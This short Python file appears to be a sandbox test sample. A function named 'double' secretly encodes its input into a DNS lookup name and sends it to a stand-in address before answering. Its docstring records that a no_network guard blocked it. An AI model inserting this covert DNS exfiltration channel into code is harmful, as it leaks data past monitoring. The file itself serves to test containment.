"""Carries its input out as a name that a server far away is asked for: a query is enough, whatever is answered.

Sent to: double
Gets: wrong_answer, 0 points
Stopped by: no_network
"""

import socket
import struct


def _asks(name):
    question = b"".join(bytes([len(part)]) + part for part in name.encode().split(b"."))
    query = struct.pack(">6H", 1, 0x0100, 1, 0, 0, 0) + question + struct.pack(">BHH", 0, 16, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        try:
            return line.sendto(query, ("192.0.2.53", 53)) > 0  # an address that is nobody's (RFC 5737)
        except OSError:
            return False


def double(x):
    return 2 * x if _asks(f"{abs(float(x[0])):.0f}.example.org") else x
